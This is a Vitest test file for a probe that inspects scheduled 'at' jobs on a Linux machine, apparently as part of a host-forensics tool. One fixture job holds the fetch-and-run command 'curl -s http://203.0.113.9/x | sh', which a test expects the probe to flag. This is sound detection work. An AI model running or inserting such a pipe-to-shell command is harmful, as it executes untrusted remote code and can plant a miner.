import { describe, expect, it } from 'vitest';
import { type Files, machineOf, runProbe } from '../../../tests/machine-tree.ts';
import { atJobs } from './at-jobs.ts';

const job = (body: string): string =>
  `#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail ann 0\numask 22\nPATH=/usr/bin:/bin; export PATH\ncd /home/ann || {\n\t echo 'x' >&2\n\t exit 1\n}\n\${SHELL:-/bin/sh} << 'marcinDELIMITER7f3a'\n${body}\nmarcinDELIMITER7f3a\n`;
const accounts: Files = { '/etc/passwd': 'ann:x:1000:1000::/home/ann:/bin/sh\n' };

describe('jobs of at', () => {
  it('tells an ordinary one aside: whose, when, what', () => {
    const told = runProbe(
      atJobs,
      machineOf({ ...accounts, '/var/spool/cron/atjobs/a0000101c7d3f0': job('./report.sh') }),
    );
    expect(told).toMatchObject([
      {
        kind: 'autostart',
        aside: true,
        line: 11,
        value: {
          user: 'ann',
          when: 'once, at 2026-10-19T05:36:00.000Z',
          starts: './report.sh',
          programs: ['/home/ann/report.sh'],
        },
      },
      { examine: '/var/spool/cron/atjobs/a0000101c7d3f0' },
      { looked: { at: 'at jobs', count: 1 } },
    ]);
  });

  it('tells one that brings a miner back openly', () => {
    const files = { ...accounts, '/var/spool/at/a00001019c9e2f': job('curl -s http://203.0.113.9/x | sh\necho next') };
    expect(runProbe(atJobs, machineOf(files))[0]).toMatchObject({ value: { why: ['fetches-and-runs', 'recent'] } });
    expect(runProbe(atJobs, machineOf(files))[0]).not.toHaveProperty('aside');
  });

  it('reads a folder that is linked twice once, and passes over what is no job', () => {
    const files: Files = {
      '/var/spool/at/a00001019c9e2f': job('x'),
      '/var/spool/at/.SEQ': '0001',
      '/var/spool/cron/atjobs': { link: '/var/spool/at' },
    };
    expect(runProbe(atJobs, machineOf(files)).at(-1)).toEqual({ looked: { at: 'at jobs', count: 1 } });
  });
});
